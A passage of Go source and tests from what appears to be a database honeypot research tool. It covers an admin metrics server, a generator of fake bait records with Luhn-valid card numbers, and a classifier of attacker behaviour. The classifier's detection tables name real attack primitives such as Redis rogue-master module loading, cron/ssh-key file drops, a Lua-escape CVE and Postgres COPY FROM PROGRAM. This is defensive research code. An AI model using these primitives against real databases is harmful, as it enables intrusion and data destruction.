// checking the scrape counter advances between scrapes.
func TestServerStart(t *testing.T) {
	reg := NewRegistry()
	s := NewServer(ServerOptions{Registry: reg})
	addr, err := s.Start("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()

	scrape := func() string {
		resp, err := http.Get(fmt.Sprintf("http://%s/metrics", addr))
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		return string(b)
	}
	if out := scrape(); !strings.Contains(out, "decoydb_admin_scrapes_total 1") {
		t.Errorf("first scrape:\n%s", out)
	}
	if out := scrape(); !strings.Contains(out, "decoydb_admin_scrapes_total 2") {
		t.Errorf("second scrape missing advanced counter")
	}
}

// TestReloadForwardEndpoint covers the admin half of live tier
// re-ranking: POST /reload/forward parses the address list and hands it
// to the hook; everything malformed is rejected before the hook runs.
func TestReloadForwardEndpoint(t *testing.T) {
	var got [][]string
	var fail error
	srv := NewServer(ServerOptions{
		Registry: NewRegistry(),
		ReloadForward: func(addrs []string) error {
			got = append(got, addrs)
			return fail
		},
	})
	ts := httptest.NewServer(srv.Handler())
	defer ts.Close()

	post := func(body string) (int, string) {
		t.Helper()
		resp, err := ts.Client().Post(ts.URL+"/reload/forward",
			"application/x-www-form-urlencoded", strings.NewReader(body))
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		b, err := io.ReadAll(resp.Body)
		if err != nil {
			t.Fatal(err)
		}
		return resp.StatusCode, string(b)
	}

	if code, body := post("addrs=a:9000|b:9000, c:9000"); code != http.StatusOK {
		t.Fatalf("reload = %d %q, want 200", code, body)
	}
	if len(got) != 1 || len(got[0]) != 3 || got[0][0] != "a:9000" || got[0][2] != "c:9000" {
		t.Fatalf("hook received %v, want the 3 parsed addrs", got)
	}

	// GET must not trigger a reload.
	if code, _ := get(t, ts, "/reload/forward"); code != http.StatusMethodNotAllowed {
		t.Fatalf("GET /reload/forward = %d, want 405", code)
	}
	// Missing addrs is a client error, not a hook call.
	if code, _ := post(""); code != http.StatusBadRequest {
		t.Fatalf("empty POST = %d, want 400", code)
	}
	if len(got) != 1 {
		t.Fatalf("hook ran on a rejected request (%d calls)", len(got))
	}
	// A hook error (e.g. sink closed) surfaces as 422 with the message.
	fail = fmt.Errorf("sink closed")
	if code, body := post("addrs=a:9000"); code != http.StatusUnprocessableEntity || !strings.Contains(body, "sink closed") {
		t.Fatalf("hook error = %d %q, want 422 with the message", code, body)
	}

	// The endpoint is advertised on the index, but only when mounted.
	if _, body := get(t, ts, "/"); !strings.Contains(body, "/reload/forward") {
		t.Fatal("index does not list /reload/forward")
	}
	plain := httptest.NewServer(NewServer(ServerOptions{Registry: NewRegistry()}).Handler())
	defer plain.Close()
	if code, _ := get(t, plain, "/reload/forward"); code != http.StatusNotFound {
		t.Fatalf("unmounted /reload/forward = %d, want 404", code)
	}
}
