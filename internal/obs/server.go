package obs

import (
	"fmt"
	"net"
	"net/http"
	"net/http/pprof"
	"runtime"
	"strings"
	"sync/atomic"
	"time"

	"decoydb/internal/stream"
)

// Server is the admin plane every binary mounts behind -admin: metrics,
// health, status, profiling, and — where the owning process wires them —
// session traces and live store queries. It binds a plain TCP listener
// (port 0 friendly for tests) and shuts down with the process; there is
// no TLS or auth, so the address should stay on loopback or a
// management network, like any other pprof port.
type ServerOptions struct {
	// Registry backs /metrics and /statusz. Required.
	Registry *Registry
	// Traces, when set, serves /traces.
	Traces *TraceRing
	// Stream, when set, serves /alerts and /clusters from the online
	// analyzer and registers its scrape-time source.
	Stream *stream.Analyzer
	// Query, when set, serves /query (the collector wires this) — a
	// *QueryHandler for one collector's store, or a *FanIn merging the
	// whole tier.
	Query http.Handler
	// ReloadForward, when set, serves POST /reload/forward — the admin
	// half of live tier re-ranking. The handler parses addrs=a|b (comma
	// or pipe separated) and hands the list to this hook, in practice
	// relay.(*ForwardSink).SetEndpoints, so an operator can point a
	// running farm at a changed collector tier without a restart.
	ReloadForward func(addrs []string) error
	// Logf logs server lifecycle lines; nil discards.
	Logf func(format string, args ...any)
}

// Server serves the admin endpoints. Create with NewServer, bind with
// Start, stop with Close.
type Server struct {
	opts    ServerOptions
	mux     *http.ServeMux
	srv     *http.Server
	ln      net.Listener
	started time.Time
	scrapes atomic.Uint64
}

// NewServer builds the handler tree. The server registers itself in the
// registry as source "admin" (scrape count, uptime, goroutines).
func NewServer(opts ServerOptions) *Server {
	if opts.Registry == nil {
		opts.Registry = NewRegistry()
	}
	s := &Server{opts: opts, mux: http.NewServeMux(), started: time.Now()}
	opts.Registry.Register(adminSource{s})
	if opts.Traces != nil {
		opts.Registry.Register(opts.Traces)
	}
	if opts.Stream != nil {
		opts.Registry.Register(StreamSource(opts.Stream))
	}

	s.mux.HandleFunc("/metrics", s.handleMetrics)
	s.mux.HandleFunc("/healthz", s.handleHealthz)
	s.mux.HandleFunc("/statusz", s.handleStatusz)
	s.mux.HandleFunc("/debug/pprof/", pprof.Index)
	s.mux.HandleFunc("/debug/pprof/cmdline", pprof.Cmdline)
	s.mux.HandleFunc("/debug/pprof/profile", pprof.Profile)
	s.mux.HandleFunc("/debug/pprof/symbol", pprof.Symbol)
	s.mux.HandleFunc("/debug/pprof/trace", pprof.Trace)
	if opts.Traces != nil {
		s.mux.HandleFunc("/traces", s.handleTraces)
	}
	if opts.Stream != nil {
		s.mux.HandleFunc("/alerts", s.handleAlerts)
		s.mux.HandleFunc("/clusters", s.handleClusters)
	}
	if opts.Query != nil {
		s.mux.Handle("/query", opts.Query)
	}
	if opts.ReloadForward != nil {
		s.mux.HandleFunc("/reload/forward", s.handleReloadForward)
	}
	s.mux.HandleFunc("/", s.handleIndex)
	return s
}

// Handler exposes the route tree (httptest and embedding).
func (s *Server) Handler() http.Handler { return s.mux }

// Start listens on addr (host:port; port 0 picks a free one) and serves
// in the background until Close. It returns the bound address.
func (s *Server) Start(addr string) (net.Addr, error) {
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return nil, fmt.Errorf("obs: listen %s: %w", addr, err)
	}
	s.ln = ln
	s.srv = &http.Server{Handler: s.mux, ReadHeaderTimeout: 10 * time.Second}
	go func() {
		if err := s.srv.Serve(ln); err != nil && err != http.ErrServerClosed {
			s.logf("obs: serve: %v", err)
		}
	}()
	s.logf("obs: admin plane on http://%s (/metrics /healthz /statusz /debug/pprof)", ln.Addr())
	return ln.Addr(), nil
}

// Close stops the listener and in-flight handlers.
func (s *Server) Close() error {
	if s.srv == nil {
		return nil
	}
	return s.srv.Close()
}

func (s *Server) logf(format string, args ...any) {
	if s.opts.Logf != nil {
		s.opts.Logf(format, args...)
	}
}

func (s *Server) handleMetrics(w http.ResponseWriter, r *http.Request) {
	s.scrapes.Add(1)
	w.Header().Set("Content-Type", "text/plain; version=0.0.4; charset=utf-8")
	if err := s.opts.Registry.WriteMetrics(w); err != nil {
		s.logf("obs: /metrics: %v", err)
	}
}

func (s *Server) handleHealthz(w http.ResponseWriter, r *http.Request) {
	writeJSON(w, map[string]any{
		"status": "ok",
		"uptime": time.Since(s.started).Round(time.Second).String(),
	})
}

func (s *Server) handleStatusz(w http.ResponseWriter, r *http.Request) {
	status := s.opts.Registry.Status()
	status["now"] = time.Now().UTC()
	writeJSON(w, status)
}

func (s *Server) handleTraces(w http.ResponseWriter, r *http.Request) {
	limit, err := intParam(r, "limit", 100)
	if err != nil {
		http.Error(w, err.Error(), http.StatusBadRequest)
		return
	}
	t := s.opts.Traces
	writeJSON(w, map[string]any{
		"stats":  t.Stats(),
		"active": t.Active(limit),
		"recent": t.Recent(limit),
	})
}

// handleReloadForward re-ranks the forwarder onto a new collector set.
// POST only: the call closes the live connection and rebuilds endpoint
// state, which is not something a stray GET should trigger.
func (s *Server) handleReloadForward(w http.ResponseWriter, r *http.Request) {
	if r.Method != http.MethodPost {
		w.Header().Set("Allow", http.MethodPost)
		http.Error(w, "POST required", http.StatusMethodNotAllowed)
		return
	}
	if err := r.ParseForm(); err != nil {
		http.Error(w, err.Error(), http.StatusBadRequest)
		return
	}
	var addrs []string
	for _, a := range strings.FieldsFunc(r.Form.Get("addrs"), func(c rune) bool { return c == ',' || c == '|' }) {
		if a = strings.TrimSpace(a); a != "" {
			addrs = append(addrs, a)
		}
	}
	if len(addrs) == 0 {
		http.Error(w, "addrs=host:port|host:port required", http.StatusBadRequest)
		return
	}
	if err := s.opts.ReloadForward(addrs); err != nil {
		http.Error(w, err.Error(), http.StatusUnprocessableEntity)
		return
	}
	s.logf("obs: /reload/forward: endpoints now %v", addrs)
	writeJSON(w, map[string]any{"ok": true, "addrs": addrs})
}

// handleIndex lists the mounted endpoints — the page an operator lands
// on when they curl the bare admin port.
func (s *Server) handleIndex(w http.ResponseWriter, r *http.Request) {
	if r.URL.Path != "/" {
		http.NotFound(w, r)
		return
	}
	paths := []string{"/metrics", "/healthz", "/statusz", "/debug/pprof/"}
	if s.opts.Traces != nil {
		paths = append(paths, "/traces")
	}
	if s.opts.Stream != nil {
		paths = append(paths, "/alerts", "/clusters")
	}
	if s.opts.Query != nil {
		paths = append(paths, "/query")
	}
	if s.opts.ReloadForward != nil {
		paths = append(paths, "/reload/forward (POST)")
	}
	w.Header().Set("Content-Type", "text/plain; charset=utf-8")
	fmt.Fprintln(w, "decoydb admin plane")
	for _, p := range paths {
		fmt.Fprintln(w, "  "+p)
	}
}

// adminSource exposes the server's own counters.
type adminSource struct{ s *Server }

func (a adminSource) Name() string { return "admin" }

func (a adminSource) Status() any {
	return map[string]any{
		"uptime":     time.Since(a.s.started).Round(time.Second).String(),
		"scrapes":    a.s.scrapes.Load(),
		"goroutines": runtime.NumGoroutine(),
	}
}

func (a adminSource) Collect(e *Emitter) {
	e.Counter("decoydb_admin_scrapes_total", "Scrapes of /metrics.", float64(a.s.scrapes.Load()))
	e.Gauge("decoydb_admin_uptime_seconds", "Seconds since the admin server was created.", time.Since(a.s.started).Seconds())
	e.Gauge("decoydb_admin_goroutines", "Live goroutines in the process.", float64(runtime.NumGoroutine()))
}
