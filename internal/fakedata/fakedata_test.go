package fakedata

import (
	"testing"
	"testing/quick"
)

func TestDeterminism(t *testing.T) {
	a, b := New(42), New(42)
	for i := 0; i < 20; i++ {
		if a.Name() != b.Name() || a.CreditCard() != b.CreditCard() {
			t.Fatal("same seed produced different records")
		}
	}
	c := New(43)
	var same int
	a = New(42)
	for i := 0; i < 20; i++ {
		if a.Name() == c.Name() {
			same++
		}
	}
	if same == 20 {
		t.Fatal("different seeds produced identical streams")
	}
}

func TestCreditCardsAreLuhnValid(t *testing.T) {
	g := New(7)
	for i := 0; i < 100; i++ {
		card := g.CreditCard()
		if !LuhnValid(card) {
			t.Fatalf("card %q fails Luhn", card)
		}
		if len(card) != 19 { // 16 digits + 3 dashes
			t.Fatalf("card %q has wrong shape", card)
		}
	}
}

func TestLuhnValidRejects(t *testing.T) {
	if LuhnValid("4532-1111-2222-3333") {
		t.Fatal("invalid card accepted")
	}
	if LuhnValid("") || LuhnValid("7") {
		t.Fatal("degenerate input accepted")
	}
}

// Property: corrupting any single digit of a valid card breaks the check.
func TestLuhnDetectsSingleDigitErrorsQuick(t *testing.T) {
	g := New(11)
	f := func(pos uint8, delta uint8) bool {
		card := []byte(g.CreditCard())
		// Pick a digit position.
		idxs := []int{}
		for i, c := range card {
			if c >= '0' && c <= '9' {
				idxs = append(idxs, i)
			}
		}
		i := idxs[int(pos)%len(idxs)]
		d := (int(card[i]-'0') + 1 + int(delta)%9) % 10
		card[i] = byte('0' + d)
		return !LuhnValid(string(card))
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestRedisLogins(t *testing.T) {
	logins := New(1).RedisLogins(200)
	if len(logins) != 200 {
		t.Fatalf("logins = %d", len(logins))
	}
	if _, ok := logins["user:000"]; !ok {
		t.Fatal("missing user:000")
	}
	for k, v := range logins {
		if len(k) != 8 || len(v) < 3 {
			t.Fatalf("bad entry %q=%q", k, v)
		}
	}
}

func TestMongoCustomers(t *testing.T) {
	docs := New(2).MongoCustomers(50)
	if len(docs) != 50 {
		t.Fatalf("docs = %d", len(docs))
	}
	for _, d := range docs {
		if d.Str("name") == "" || d.Str("card") == "" || d.Str("address") == "" {
			t.Fatalf("incomplete record %v", d)
		}
		if !LuhnValid(d.Str("card")) {
			t.Fatalf("record card invalid: %v", d.Str("card"))
		}
	}
	if docs[0].Int("_id") != 1 || docs[49].Int("_id") != 50 {
		t.Fatal("ids not sequential")
	}
}
