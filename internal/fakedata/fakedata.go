// Package fakedata generates deterministic bait data for the medium/high
// interaction honeypots, standing in for the Mockaroo service the paper
// used: fabricated Redis login entries and MongoDB customer records with
// names, addresses, phone numbers and (Luhn-valid) credit card numbers.
package fakedata

import (
	"fmt"
	"math/rand"

	"decoydb/internal/bson"
)

// Gen is a seeded fake-record generator. The same seed always produces the
// same records, which keeps simulated runs reproducible.
type Gen struct {
	r *rand.Rand
}

// New returns a generator for the given seed.
func New(seed int64) *Gen {
	return &Gen{r: rand.New(rand.NewSource(seed))}
}

var firstNames = []string{
	"Amber", "Hattie", "Nanette", "Dale", "Elinor", "Virginia", "Dillard",
	"Mcgee", "Aurelia", "Fulton", "Burton", "Josie", "Hughes", "Hall",
	"Deidre", "Wilder", "Mia", "Schwartz", "Latoya", "Bradshaw", "Noa",
	"Liam", "Emma", "Oliver", "Sophia", "Lucas", "Isabella", "Mason",
}

var lastNames = []string{
	"Duke", "Bond", "Bates", "Adams", "Ratliff", "Ayala", "Mckenzie",
	"Mooney", "Harding", "Holt", "Meyers", "Brennan", "Walls", "Allison",
	"Bruce", "Mccarthy", "Carver", "Buckley", "Lowe", "Petersen", "Novak",
	"Ito", "Garcia", "Muller", "Smith", "Jansen", "Kim", "Rossi",
}

var streets = []string{
	"Putnam Avenue", "Hutchinson Court", "Baycliff Terrace", "Clinton Street",
	"Hancock Street", "Wilton Street", "Keap Street", "Gates Avenue",
	"Bristol Street", "Hamilton Avenue", "Terrace Place", "Court Square",
}

var cities = []string{
	"Bend", "Dante", "Urie", "Brogan", "Nicut", "Veguita", "Sunriver",
	"Riverton", "Chapin", "Rockford", "Delft", "Leiden", "Utrecht",
}

var passwordWords = []string{
	"dragon", "sunshine", "welcome", "monkey", "shadow", "master", "qwerty",
	"flower", "hunter", "secret", "orange", "silver", "copper", "tiger",
}

// Name returns a full name.
func (g *Gen) Name() string {
	return firstNames[g.r.Intn(len(firstNames))] + " " + lastNames[g.r.Intn(len(lastNames))]
}

// Username returns a lowercase login name.
func (g *Gen) Username() string {
	return fmt.Sprintf("%s.%s%d",
		lower(firstNames[g.r.Intn(len(firstNames))]),
		lower(lastNames[g.r.Intn(len(lastNames))]),
		g.r.Intn(100))
}

// Password returns a weak-looking password of the kind leaked credential
// dumps are full of.
func (g *Gen) Password() string {
	w := passwordWords[g.r.Intn(len(passwordWords))]
	switch g.r.Intn(3) {
	case 0:
		return fmt.Sprintf("%s%d", w, g.r.Intn(1000))
	case 1:
		return fmt.Sprintf("%s!%d", w, g.r.Intn(100))
	default:
		return fmt.Sprintf("%s%s", w, passwordWords[g.r.Intn(len(passwordWords))])
	}
}

// Email returns an email address derived from a username.
func (g *Gen) Email() string {
	domains := []string{"example.com", "mail.example.org", "corp.example.net"}
	return g.Username() + "@" + domains[g.r.Intn(len(domains))]
}

// Address returns a street address.
func (g *Gen) Address() string {
	return fmt.Sprintf("%d %s, %s", 1+g.r.Intn(999),
		streets[g.r.Intn(len(streets))], cities[g.r.Intn(len(cities))])
}

// Phone returns a phone number.
func (g *Gen) Phone() string {
	return fmt.Sprintf("+1 (%03d) %03d-%04d", 200+g.r.Intn(800), g.r.Intn(1000), g.r.Intn(10000))
}

// CreditCard returns a Luhn-valid 16-digit card number.
func (g *Gen) CreditCard() string {
	digits := make([]int, 16)
	digits[0] = 4 // Visa-style prefix
	for i := 1; i < 15; i++ {
		digits[i] = g.r.Intn(10)
	}
	digits[15] = luhnCheckDigit(digits[:15])
	out := make([]byte, 0, 19)
	for i, d := range digits {
		if i > 0 && i%4 == 0 {
			out = append(out, '-')
		}
		out = append(out, byte('0'+d))
	}
	return string(out)
}

// LuhnValid reports whether a card number (digits and dashes) passes the
// Luhn check.
func LuhnValid(card string) bool {
	var digits []int
	for _, c := range card {
		if c >= '0' && c <= '9' {
			digits = append(digits, int(c-'0'))
		}
	}
	if len(digits) < 2 {
		return false
	}
	sum := 0
	double := false
	for i := len(digits) - 1; i >= 0; i-- {
		d := digits[i]
		if double {
			d *= 2
			if d > 9 {
				d -= 9
			}
		}
		sum += d
		double = !double
	}
	return sum%10 == 0
}

func luhnCheckDigit(payload []int) int {
	sum := 0
	double := true
	for i := len(payload) - 1; i >= 0; i-- {
		d := payload[i]
		if double {
			d *= 2
			if d > 9 {
				d -= 9
			}
		}
		sum += d
		double = !double
	}
	return (10 - sum%10) % 10
}

// RedisLogins fabricates n user login entries keyed user:NNN, matching
// the paper's fake-data Redis configuration (200 Mockaroo entries of
// username + password).
func (g *Gen) RedisLogins(n int) map[string]string {
	out := make(map[string]string, n)
	for i := 0; i < n; i++ {
		out[fmt.Sprintf("user:%03d", i)] = g.Username() + ":" + g.Password()
	}
	return out
}

// MongoCustomers fabricates n customer documents with names, addresses,
// phone numbers and credit card data, matching the paper's MongoDB bait
// database.
func (g *Gen) MongoCustomers(n int) []bson.D {
	out := make([]bson.D, n)
	for i := range out {
		out[i] = bson.D{
			{Key: "_id", Val: int32(i + 1)},
			{Key: "name", Val: g.Name()},
			{Key: "email", Val: g.Email()},
			{Key: "address", Val: g.Address()},
			{Key: "phone", Val: g.Phone()},
			{Key: "card", Val: g.CreditCard()},
			{Key: "balance", Val: float64(g.r.Intn(100000)) / 100},
		}
	}
	return out
}

func lower(s string) string {
	b := []byte(s)
	for i, c := range b {
		if c >= 'A' && c <= 'Z' {
			b[i] = c + 32
		}
	}
	return string(b)
}
