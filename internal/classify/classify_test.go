package classify

import (
	"testing"

	"decoydb/internal/core"
	"decoydb/internal/evstore"
)

func act(logins int64, actions ...string) *evstore.Activity {
	a := &evstore.Activity{Logins: logins}
	for _, name := range actions {
		a.Actions = append(a.Actions, evstore.Action{Name: name})
	}
	return a
}

func TestActivityClassification(t *testing.T) {
	cases := []struct {
		name string
		dbms string
		act  *evstore.Activity
		want Behavior
	}{
		{"connect-only", core.Redis, act(0), Scanning},
		{"nil", core.Redis, nil, Scanning},
		{"login", core.MSSQL, act(5), Scouting},
		{"redis-info", core.Redis, act(0, "INFO", "KEYS"), Scouting},
		{"redis-type-probe", core.Redis, act(0, "KEYS", "TYPE", "TYPE"), Scouting},
		{"redis-worm", core.Redis, act(0, "INFO", "SET", "CONFIG SET dir", "SLAVEOF", "MODULE LOAD"), Exploiting},
		{"redis-flush", core.Redis, act(0, "FLUSHALL"), Exploiting},
		{"redis-cve", core.Redis, act(0, "EVAL"), Exploiting},
		{"pg-select", core.Postgres, act(1, "SELECT VERSION", "SELECT"), Scouting},
		{"pg-kinsing", core.Postgres, act(1, "DROP TABLE", "CREATE TABLE", "COPY FROM PROGRAM"), Exploiting},
		{"pg-priv", core.Postgres, act(1, "ALTER USER"), Exploiting},
		{"es-cluster-info", core.Elastic, act(0, "GET /", "GET /_cat/indices"), Scouting},
		{"es-script-field", core.Elastic, act(0, "SEARCH SCRIPT-FIELD"), Scouting},
		{"es-lucifer", core.Elastic, act(0, "SEARCH SCRIPT-EXEC"), Exploiting},
		{"es-craft-probe", core.Elastic, act(0, "CVE-2023-41892 PROBE"), Scouting},
		{"mongo-handshake", core.MongoDB, act(0, "ISMASTER"), Scanning},
		{"mongo-enum", core.MongoDB, act(0, "ISMASTER", "LISTDATABASES", "LISTCOLLECTIONS", "FIND"), Scouting},
		{"mongo-ransom", core.MongoDB, act(0, "FIND", "DELETE", "INSERT"), Exploiting},
		{"junk-protocol", core.Postgres, act(0, "PROTOCOL-ERROR"), Scanning},
		{"unknown-deliberate", core.Redis, act(0, "WEIRDCMD"), Scouting},
	}
	for _, c := range cases {
		if got := Activity(c.dbms, c.act); got != c.want {
			t.Errorf("%s: Activity = %v, want %v", c.name, got, c.want)
		}
	}
}

func TestRDPProbeIsScouting(t *testing.T) {
	a := &evstore.Activity{Actions: []evstore.Action{
		{Name: "PROTOCOL-ERROR", Raw: "Cookie: mstshash=Administr"},
	}}
	if got := Activity(core.Postgres, a); got != Scouting {
		t.Fatalf("RDP probe = %v, want scouting", got)
	}
}

func TestJDWPProbeIsScouting(t *testing.T) {
	a := &evstore.Activity{Actions: []evstore.Action{
		{Name: "JDWP-HANDSHAKE", Raw: "JDWP-Handshake"},
	}}
	if got := Activity(core.Redis, a); got != Scouting {
		t.Fatalf("JDWP probe = %v, want scouting", got)
	}
}

func mkRecord(per map[evstore.PerKey]*evstore.Activity) *evstore.IPRecord {
	return &evstore.IPRecord{Per: per}
}

func TestIPTakesMax(t *testing.T) {
	redisMed := evstore.PerKey{DBMS: core.Redis, Level: core.Medium}
	pgLow := evstore.PerKey{DBMS: core.Postgres, Level: core.Low}
	rec := mkRecord(map[evstore.PerKey]*evstore.Activity{
		pgLow:    act(100),                         // scouting on low tier
		redisMed: act(0, "SLAVEOF", "MODULE LOAD"), // exploiting on medium
	})
	if got := IP(rec, evstore.Query{}); got != Exploiting {
		t.Fatalf("IP = %v", got)
	}
	if got := IP(rec, evstore.Query{Tier: evstore.LowTier}); got != Scouting {
		t.Fatalf("IP(low only) = %v", got)
	}
}

func TestFilters(t *testing.T) {
	if !MediumHigh.MatchKey(evstore.PerKey{Level: core.High}) || MediumHigh.MatchKey(evstore.PerKey{Level: core.Low}) {
		t.Fatal("MediumHigh filter")
	}
	q := ForDBMS(core.Redis)
	if !q.MatchKey(evstore.PerKey{DBMS: core.Redis, Level: core.Medium}) {
		t.Fatal("ForDBMS accept")
	}
	if q.MatchKey(evstore.PerKey{DBMS: core.Redis, Level: core.Low}) {
		t.Fatal("ForDBMS low accepted")
	}
	if q.MatchKey(evstore.PerKey{DBMS: core.MongoDB, Level: core.High}) {
		t.Fatal("ForDBMS wrong dbms accepted")
	}
}

func TestCount(t *testing.T) {
	redisMed := evstore.PerKey{DBMS: core.Redis, Level: core.Medium}
	recs := []*evstore.IPRecord{
		mkRecord(map[evstore.PerKey]*evstore.Activity{redisMed: act(0)}),
		mkRecord(map[evstore.PerKey]*evstore.Activity{redisMed: act(0, "INFO")}),
		mkRecord(map[evstore.PerKey]*evstore.Activity{redisMed: act(0, "FLUSHALL")}),
		// Not on medium tier at all: excluded.
		mkRecord(map[evstore.PerKey]*evstore.Activity{{DBMS: core.Redis, Level: core.Low}: act(0)}),
	}
	c := Count(recs, MediumHigh)
	if c.IPs != 3 || c.Scanning != 1 || c.Scouting != 1 || c.Exploiting != 1 {
		t.Fatalf("counts = %+v", c)
	}
}

func TestBehaviorString(t *testing.T) {
	if Scanning.String() != "scanning" || Scouting.String() != "scouting" || Exploiting.String() != "exploiting" {
		t.Fatal("behaviour names")
	}
	if Behavior(9).String() != "unknown" {
		t.Fatal("unknown behaviour name")
	}
}
