package classify_test

import (
	"fmt"

	"decoydb/internal/classify"
	"decoydb/internal/core"
	"decoydb/internal/evstore"
)

// Example shows the paper's three-way behaviour classification over a
// captured activity record.
func Example() {
	worm := &evstore.Activity{Actions: []evstore.Action{
		{Name: "INFO"}, {Name: "SLAVEOF"}, {Name: "MODULE LOAD"},
	}}
	scout := &evstore.Activity{Actions: []evstore.Action{
		{Name: "INFO"}, {Name: "KEYS"},
	}}
	scanner := &evstore.Activity{}

	fmt.Println(classify.Activity(core.Redis, worm))
	fmt.Println(classify.Activity(core.Redis, scout))
	fmt.Println(classify.Activity(core.Redis, scanner))
	// Output:
	// exploiting
	// scouting
	// scanning
}
