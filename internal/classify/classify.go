// Package classify implements the paper's behavioural classification of
// source IPs (Section 4.3): every source that connects is a *scanner*;
// sources that attempt logins or issue information-gathering commands are
// additionally *scouts*; sources that try to alter the DBMS, its data, or
// the underlying system are *exploiters*. The paper applies regex filters
// over captured commands; here the honeypots already emit normalised
// action tokens, so the rules match on those (with raw-payload checks
// where the action alone is ambiguous).
package classify

import (
	"sort"
	"strings"

	"decoydb/internal/core"
	"decoydb/internal/evstore"
)

// Behavior is the classification outcome.
type Behavior int

// Behaviours, ordered by intrusiveness. A source classified Scouting is
// also a scanner; an exploiter may be all three (paper Section 4.3).
const (
	Scanning Behavior = iota
	Scouting
	Exploiting
)

// String returns the paper's category name.
func (b Behavior) String() string {
	switch b {
	case Scanning:
		return "scanning"
	case Scouting:
		return "scouting"
	case Exploiting:
		return "exploiting"
	}
	return "unknown"
}

// exploitActions lists, per DBMS, the normalised actions that constitute
// manipulation of the DBMS, its data, or the host.
var exploitActions = map[string]map[string]bool{
	core.Redis: {
		"SLAVEOF":               true, // rogue-master module loading
		"REPLICAOF":             true,
		"MODULE LOAD":           true,
		"SYSTEM.EXEC":           true,
		"EVAL":                  true, // CVE-2022-0543 Lua escape
		"CONFIG SET dir":        true, // cron/ssh-key file drops
		"CONFIG SET dbfilename": true,
		"FLUSHDB":               true,
		"FLUSHALL":              true,
		"SET":                   true, // payload staging for the file-drop chain
	},
	core.Postgres: {
		"COPY FROM PROGRAM": true, // code execution primitive (Kinsing)
		"DROP TABLE":        true,
		"CREATE TABLE":      true,
		"ALTER USER":        true, // privilege manipulation (Listing 13)
		"ALTER ROLE":        true,
		"CREATE USER":       true,
		"INSERT":            true,
		"UPDATE":            true,
		"DELETE":            true,
	},
	core.Elastic: {
		"SEARCH SCRIPT-EXEC": true, // dynamic-scripting RCE (Lucifer)
	},
	core.MongoDB: {
		"INSERT":       true, // ransom-note drops
		"DELETE":       true,
		"DROP":         true,
		"DROPDATABASE": true,
	},
	core.MSSQL: {
		"SQLBATCH-PREAUTH": true,
	},
	core.MySQL: {
		"INSERT":          true, // ransom-note drops via the medium honeypot
		"UPDATE":          true,
		"DELETE":          true,
		"DROP TABLE":      true,
		"DROP DATABASE":   true,
		"CREATE TABLE":    true,
		"CREATE DATABASE": true,
		"ALTER TABLE":     true,
		"ALTER USER":      true,
		"CREATE USER":     true,
	},
	core.CouchDB: {
		"CVE-2017-12635 ADMIN-INJECT": true, // _users role injection
		"DELETE /{db}":                true, // ransom wipes
		"PUT /{db}":                   true,
		"PUT /{db}/{doc}":             true, // ransom-note documents
		"POST /{db}/{doc}":            true,
		"PUT /_config":                true, // admin-party config writes
		"DELETE /_config":             true,
	},
}

// scoutActions lists informational actions that go beyond mere
// connection but do not alter anything.
var scoutActions = map[string]map[string]bool{
	core.Redis: {
		"INFO": true, "KEYS": true, "TYPE": true, "GET": true, "SCAN": true,
		"DBSIZE": true, "CLIENT LIST": true, "CONFIG GET": true, "PING": true,
		"HGETALL": true, "EXISTS": true, "COMMAND": true, "AUTH": true,
	},
	core.Postgres: {
		"SELECT": true, "SELECT VERSION": true, "SHOW": true, "SET": true, "TXN": true,
	},
	core.Elastic: {
		"SEARCH SCRIPT-FIELD":  true,
		"CVE-2023-41892 PROBE": true, // web-CVE scouting, not DBMS exploitation (paper Table 9)
		"CVE-2021-22005 PROBE": true,
	},
	core.MongoDB: {
		"BUILDINFO": true, "LISTDATABASES": true, "LISTCOLLECTIONS": true,
		"FIND": true, "COUNT": true, "AGGREGATE": true, "GETLOG": true,
		"SERVERSTATUS": true, "GETMORE": true, "AUTH": true,
	},
}

// connectionNoise lists actions that amount to protocol housekeeping: a
// source whose only actions are these is still just scanning. MongoDB
// drivers send isMaster on every connection, and malformed-protocol junk
// (RDP cookies, JDWP handshakes, TLS hellos) is port-scan fallout.
var connectionNoise = map[string]bool{
	"ISMASTER":         true,
	"WHATSMYURI":       true,
	"ENDSESSIONS":      true,
	"CONNECTIONSTATUS": true,
	"GETPARAMETER":     true,
	"QUIT":             true,
	"PROTOCOL-ERROR":   true,
	"NON-PG-HANDSHAKE": true,
	"JDWP-HANDSHAKE":   true,
	"UNEXPECTED-MSG":   true,
	"UNEXPECTED-TDS":   true,
	"MALFORMED-LOGIN":  true,
	"MALFORMED-LOGIN7": true,
	"EMPTY":            true,
}

// serviceScanMarkers match raw payloads of scans for services unrelated
// to the DBMS (paper Table 9: RDP, JDWP). These classify as scouting —
// the source sent a deliberate, crafted probe.
var serviceScanMarkers = []string{
	"mstshash=",      // RDP negotiation cookie
	"JDWP-Handshake", // Java Debug Wire Protocol
}

// Step classifies one normalised action on one DBMS: exploit-grade if
// the action manipulates the DBMS/data/host, scanning if it is pure
// protocol housekeeping (unless the raw payload is a deliberate probe
// for an unrelated service), scouting otherwise. It is the per-action
// building block shared by the offline Activity fold below and the
// online incremental classifier in internal/stream — both are folds of
// Step over an action sequence, so live and post-hoc verdicts cannot
// drift apart.
func Step(dbms, action, raw string) Behavior {
	if exploitActions[dbms][action] {
		return Exploiting
	}
	if scoutActions[dbms][action] {
		return Scouting
	}
	if connectionNoise[action] {
		for _, m := range serviceScanMarkers {
			if strings.Contains(raw, m) {
				return Scouting
			}
		}
		return Scanning
	}
	// Unknown deliberate command: the source interacted.
	return Scouting
}

// ExploitActions returns the exploit-grade action names for one DBMS in
// sorted order — the table-form contract the emulation drift tests in
// internal/simnet assert against: every entry must be producible by the
// DBMS's protocol package, or the table has drifted from the emulation.
func ExploitActions(dbms string) []string {
	out := make([]string, 0, len(exploitActions[dbms]))
	for name := range exploitActions[dbms] {
		out = append(out, name)
	}
	sort.Strings(out)
	return out
}

// Activity classifies one (source, honeypot) activity record: the most
// intrusive Step over its actions, with any login attempt counting as
// scouting.
func Activity(dbms string, act *evstore.Activity) Behavior {
	if act == nil {
		return Scanning
	}
	best := Scanning
	if act.Logins > 0 {
		best = Scouting
	}
	for _, a := range act.Actions {
		if best >= Exploiting {
			break
		}
